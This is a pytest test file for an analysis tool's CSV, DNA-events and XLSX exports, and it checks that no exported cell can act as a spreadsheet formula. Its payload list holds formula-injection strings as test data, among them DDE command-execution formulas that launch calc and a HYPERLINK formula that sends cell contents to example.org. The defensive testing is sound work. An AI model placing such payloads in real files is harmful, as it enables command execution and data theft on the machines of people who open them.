"""No text of an article, a name, a note or a codebook becomes a formula in what a spreadsheet opens, in any column."""

import csv
import datetime as dt
import io
import re

import pytest

from analysis.coding.codebook import HIDDEN
from analysis.exchange import frames
from analysis.exchange.formats import FORMATS, export_bytes
from analysis.exchange.selection import select
from analysis.exchange.tables import harmless
from analysis.model import (
    ActorKind,
    Article,
    Codebook,
    Coding,
    DateOrigin,
    Event,
    EventType,
    Mention,
    Precision,
    Span,
    StanceLabel,
    Statement,
    StatementKind,
    Theme,
)
from analysis.store import Filters, Workspace
from tests.exchange.material import _add, _coded

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", " =1+1", "\n=1+1", "=cmd|'/c calc'!A1",
    "-2+3+cmd|' /C calc'!A0", '=HYPERLINK("http://example.org?"&A1,"open")', "=IMPORTXML(CONCAT(1),2)", "\x01=1+1",
    "\x00=1+1", "\x7f=1+1", "\ufeff=1+1", "\u200b=1+1", "\u202e=1+1", "\xa0=1+1", "\xad=1+1", "\u2060+1",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "\u22121",
    "a;=1+1", "a\t=1+1", "a\n=1+1", "a\r\n+1", 'a";=1+1', 'a; "=1+1', "a|=1+1", "a,=1+1", '"=1+1"', "'=1+1",
]  # fmt: skip
# How a spreadsheet sees a cell: unseen marks are no part of it.
_UNSEEN = "".join(
    map(chr, [*range(33), *range(127, 161), 0xAD, *range(0x200B, 0x2010), *range(0x202A, 0x202F), 0x2060, 0xFEFF])
)
_SIGNS = tuple("=+-@＝＋－＠−")
_NUMBER = re.compile(r"-?\d+(\.\d+)?(e-?\d+)?")


def is_formula(cell):
    bare = cell.strip(_UNSEEN)
    return bare.startswith(_SIGNS) and not _NUMBER.fullmatch(bare)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A workspace in which every text is a formula."""
    with Workspace.open(tmp_path_factory.mktemp("formulas") / "formulas.db") as workspace:
        seen = [HIDDEN.sub("", formula) for formula in FORMULAS]
        themes = [Theme(f"theme_{at}", text, text, text, ("truce",)) for at, text in enumerate(seen)]
        workspace.save_codebook(Codebook("=talks", "=Talks", "=1", tuple(themes)))
        for number, formula in enumerate(FORMULAS):
            fill(workspace, formula, number)
        yield select(workspace, Filters())


def fill(workspace, formula, number):
    text = f"{formula}. He said {formula}. {number}"
    start = text.index(formula, 3 + len(formula))
    end = start + len(formula)
    article = Article(
        formula + f"{number}.txt", formula, text, dt.date(2025, 5, 6), DateOrigin.METADATA, formula, formula, formula
    )
    said = Statement(
        StatementKind.INDIRECT, start, end, formula, (0, len(text)), Span(start, end, formula), speaker=formula,
        party=formula, role=formula, confidence=0.9, parts=((start, end),), date="2025-05-06",
    )  # fmt: skip
    coding = Coding(f"theme_{number}", StanceLabel.CONDITIONAL, 0.8, 0.9, formula, evidence=(formula,))
    event = Event(
        EventType.CONSULT, start, end, formula, (0, len(text)), "2025-05-06", Precision.DAY, (formula,), (formula,),
        formula,
    )  # fmt: skip
    mention = Mention(start, end, formula, formula, ActorKind.PERSON, formula, formula)
    _add(workspace, _coded(article, [(said, (coding,))], (event,), (mention,)))
    workspace.corrections.correct(number + 1, "note", formula, "ana")


def parted(text, delimiter):
    return [cell for row in csv.reader(io.StringIO(text, newline=None), delimiter=delimiter) for cell in row]


def test_no_cell_of_any_table_is_a_formula_whatever_parts_the_cells(hostile):
    tables = {f"csv {name}": export_bytes(hostile, "csv", name).decode() for name in frames.NAMES}
    tables["dna events"] = FORMATS["dna-events"].write(hostile).decode()
    for name, text in tables.items():
        assert len(text.splitlines()) > 1, name
        for delimiter in ",;\t|":
            assert [cell for cell in parted(text, delimiter) if is_formula(cell)] == [], (name, delimiter)


def test_no_cell_of_the_workbook_is_a_formula(hostile):
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(FORMATS["xlsx"].write(hostile)))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert len(cells) > 500
    assert {cell.data_type for cell in cells} <= {"s", "n", "b"}
    assert [cell.value for cell in cells if isinstance(cell.value, str) and is_formula(cell.value)] == []


@pytest.mark.parametrize("formula", FORMULAS[:26])
def test_what_begins_like_a_formula_is_text(formula):
    assert harmless(formula) == "'" + formula
    assert harmless([formula, "b"]) == f"'{formula}; b"


def test_numbers_and_other_texts_stay_as_they_are():
    assert [harmless(value) for value in (-0.5, 3, None, True, "a-b", "Oslo", "5 = 5")] == [
        -0.5, 3, None, True, "a-b", "Oslo", "5 = 5",
    ]  # fmt: skip
